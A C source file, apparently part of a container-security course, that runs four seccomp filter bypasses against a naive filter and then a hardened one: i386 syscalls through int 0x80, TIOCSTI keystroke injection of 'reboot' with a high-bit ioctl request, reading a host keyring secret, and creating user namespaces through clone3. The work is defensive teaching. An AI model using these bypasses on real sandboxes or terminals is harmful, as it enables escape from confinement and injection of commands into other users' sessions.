/* holes.c - ways around filters, tried under a naive one and under ours.
 *
 * Each try is a child with the filter, which does what a program in a container could do; the
 * other side is the module's, the learner's or the reference's.
 *
 * Read on: seccomp(2), "Architecture"; ioctl_tty(2), TIOCSTI; keyrings(7); clone(2).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <sched.h>
#include <seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>
#include "../c02-chroot/inside.h"
#include "../c02-chroot/roots.h"
#include "filtered.h"
#include "holes.h"

struct scene {
    const char *directory;  /* of this session */
    int terminal, keyboard; /* tiocsti: the program's side, and the person's */
};

struct hole {
    const char *name, *naive, *ours; /* what the filters are */
    int (*prepare)(struct scene *scene);
    int (*make_naive)(struct filter *filter); /* NULL: no filter at all */
    int (*make_ours)(struct filter *filter);
    bool (*attack)(struct scene *scene); /* returns whether it has worked */
};

static bool tell(const char *call, long result)
{
    printf("    %-46s %s\n", call, result == -1 ? strerror(errno) : "works");
    return result != -1;
}

static int make_default(struct filter *filter)
{
    return filter_default(0, FILTER_FAIL(EPERM), filter);
}

/* Waits for a child. Returns its exit status, or 128 + its signal. */
static int status_of(pid_t child)
{
    int status;

    if (TEMP_FAILURE_RETRY(waitpid(child, &status, __WALL)) == -1)
        return 1;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* --- 32bit: the same call, by another number ------------------------------------------- */

#define MKDIR_OF_I386 39

static int naive_mkdir(struct filter *filter)
{
    return filtered_naive(SYS_mkdir, FILTER_FAIL(EPERM), filter);
}

static int our_mkdir(struct filter *filter)
{
    return filter_by_hand(SYS_mkdir, FILTER_FAIL(EPERM), filter);
}

/* In a child, as it may be killed; with a path below 4 GiB, where 32 bits reach it. */
static int mkdir_of_i386(const char *path)
{
    const struct rlimit no_core = {0, 0};
    long result = MKDIR_OF_I386;
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

    if (low == MAP_FAILED || setrlimit(RLIMIT_CORE, &no_core) == -1)
        return errno;
    (void)snprintf(low, 4096, "%s", path);
    __asm__ volatile("int $0x80"
                     : "+a"(result)
                     : "b"(low), "c"(0700)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)-(int)result;
}

static bool attack_32bit(struct scene *scene)
{
    char path[4096];
    struct stat status;

    (void)snprintf(path, sizeof path, "%s/made", scene->directory);
    (void)tell("mkdir(), by syscall", syscall(SYS_mkdir, path, 0700));
    fflush(stdout);
    pid_t child = fork();
    if (child == 0)
        _exit(mkdir_of_i386(path));
    int ended = child == -1 ? errno : status_of(child);
    errno = ended;
    if (ended > 128)
        printf("    %-46s ended by SIG%s\n", "mkdir() of i386, by int 0x80",
               sigabbrev_np(ended - 128));
    else
        (void)tell("mkdir() of i386, by int 0x80", ended == 0 ? 0 : -1);
    bool out = stat(path, &status) == 0;
    (void)rmdir(path); /* where it is not, nothing was made */
    return out;
}

/* --- tiocsti: to type for somebody else ------------------------------------------------ */

static int naive_ioctl(struct filter *filter)
{
    /* As the kernel sees a request: a number. But it has 64 bits in the register. */
    const struct sock_filter program[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_ioctl, 0, 5),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, TIOCSTI, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[1]) + 4),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, FILTER_FAIL(EPERM)),
        BPF_STMT(BPF_RET | BPF_K, FILTER_ALLOW),
    };

    filter->instructions = malloc(sizeof program);
    if (!filter->instructions)
        return -1;
    memcpy(filter->instructions, program, sizeof program);
    filter->count = sizeof program / sizeof *program;
    return 0;
}

/* A terminal of its own, which plays the one that the container was started from. */
static int prepare_terminal(struct scene *scene)
{
    scene->keyboard = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (scene->keyboard == -1 || grantpt(scene->keyboard) == -1 ||
        unlockpt(scene->keyboard) == -1 || setsid() == -1)
        return -1;
    scene->terminal = ioctl(scene->keyboard, TIOCGPTPEER, O_RDWR | O_CLOEXEC);
    return scene->terminal == -1 ? -1 : ioctl(scene->terminal, TIOCSCTTY, 0);
}

static bool attack_terminal(struct scene *scene)
{
    static const char typed[] = "reboot\n";
    char text[16] = "";
    long result = 0;

    (void)tell("ioctl(TERMINAL, TIOCSTI, \"r\")", ioctl(scene->terminal, TIOCSTI, typed));
    (void)ioctl(scene->terminal, TCFLSH, TCIFLUSH); /* else "r" stands there twice */
    for (size_t i = 0; i < sizeof typed - 1 && result == 0; i++)
        result = syscall(SYS_ioctl, scene->terminal, 1ul << 32 | TIOCSTI, &typed[i]);
    (void)tell("ioctl(TERMINAL, TIOCSTI + 2^32, each key)", result);
    if (result == 0 && read(scene->terminal, text, sizeof text - 1) > 0)
        text[strcspn(text, "\n")] = '\0';
    printf("    %-46s \"%s\"\n", "what the shell reads, when we have ended", text);
    return *text;
}

/* --- keyctl: what no namespace divides ------------------------------------------------ */

#define KEY "boxwork-password"

/* Somebody on the host has a key; then everything that has a namespace gets a new one. */
static int prepare_key(struct scene *scene)
{
    (void)scene;
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) == -1 ||
        syscall(SYS_add_key, "user", KEY, ROOTS_SECRET, sizeof ROOTS_SECRET - 1,
                KEY_SPEC_SESSION_KEYRING) == -1)
        return -1;
    return unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWUTS |
                   CLONE_NEWIPC | CLONE_NEWNET);
}

static bool attack_key(struct scene *scene)
{
    char text[64] = "";
    long key =
        syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", KEY, 0);

    (void)scene;
    if (!tell("keyctl(KEYCTL_SEARCH, the session, a name)", key))
        return false;
    long length = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1);
    printf("    %-46s %s%s%s\n", "keyctl(KEYCTL_READ)", length > 0 ? "\"" : "",
           length > 0 ? text : strerror(errno), length > 0 ? "\"" : "");
    return strcmp(text, ROOTS_SECRET) == 0;
}

/* --- userns: root of something new ----------------------------------------------------- */

/* What refuses unshare and clone, as many lists did before clone3 came. */
static int naive_namespaces(struct filter *filter)
{
    const struct sock_filter program[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 3, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
        BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, CLONE_NEWUSER, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, FILTER_FAIL(EPERM)),
        BPF_STMT(BPF_RET | BPF_K, FILTER_ALLOW),
    };

    filter->instructions = malloc(sizeof program);
    if (!filter->instructions)
        return -1;
    memcpy(filter->instructions, program, sizeof program);
    filter->count = sizeof program / sizeof *program;
    return 0;
}

/* A child that was made is there for nothing else. */
static bool tell_child(const char *call, long pid)
{
    if (pid == 0)
        _exit(0);
    bool made = tell(call, pid);
    if (made)
        (void)status_of((pid_t)pid);
    return made;
}

static bool attack_namespaces(struct scene *scene)
{
    struct clone_args how = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    bool made;

    (void)scene;
    made = tell("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER));
    fflush(stdout);
    made |= tell_child("clone(CLONE_NEWUSER)",
                       syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    fflush(stdout);
    made |= tell_child("clone3(CLONE_NEWUSER)", syscall(SYS_clone3, &how, sizeof how));
    return made;
}

/* --- trying them ------------------------------------------------------------------------ */

static const struct hole holes[] = {
    {"32bit", "a filter that looks at the number only", "filter_by_hand", NULL,
     naive_mkdir, our_mkdir, attack_32bit},
    {"tiocsti", "a filter that compares all 64 bits", "filter_arguments",
     prepare_terminal, naive_ioctl, make_default, attack_terminal},
    {"keyctl", "six new namespaces, and no filter", "filter_default", prepare_key, NULL,
     make_default, attack_key},
    {"userns", "a filter for unshare and clone", "filter_arguments", NULL,
     naive_namespaces, make_default, attack_namespaces},
};

enum { HOLES = sizeof holes / sizeof *holes };

const char *const holes_names[] = {"32bit", "tiocsti", "keyctl", "userns", NULL};

struct trial {
    const struct hole *hole;
    struct scene scene;
    bool ours;
};

static int try_inside(struct tutor *tutor, void *context)
{
    struct trial *trial = context;
    const struct hole *hole = trial->hole;
    int (*make)(struct filter *) = trial->ours ? hole->make_ours : hole->make_naive;
    struct filter filter = {0};

    if (hole->prepare && hole->prepare(&trial->scene) == -1)
        return tutor_error(tutor, "to prepare the attack: %s", strerror(errno));
    if (make && (make(&filter) == -1 || capabilities_no_new_privileges() == -1 ||
                 filter_install(&filter) == -1)) {
        printf("  not tried: the filter: %s\n", strerror(errno));
        return 0;
    }
    puts(hole->attack(&trial->scene) ? "  OUT" : "  held");
    return 0;
}

static int try_once(struct tutor *tutor, struct trial *trial, bool ours)
{
    trial->ours = ours;
    if (ours)
        printf("after: %s (%s)\n", trial->hole->ours, inside_whose(trial->hole->ours));
    else
        printf("before: %s\n", trial->hole->naive);
    return inside_child(tutor, try_inside, trial);
}

int holes_try(struct tutor *tutor, const char *name)
{
    struct trial trial = {0};

    for (int i = 0; i < HOLES; i++) {
        if (strcmp(holes[i].name, name) == 0)
            trial.hole = &holes[i];
    }
    if (!trial.hole)
        return -1;
    trial.scene.directory = tutor_directory(tutor);
    if (!trial.scene.directory)
        return tutor_error(tutor, "a directory for it: %s", strerror(errno));
    int status = try_once(tutor, &trial, false);
    return status ? status : try_once(tutor, &trial, true);
}
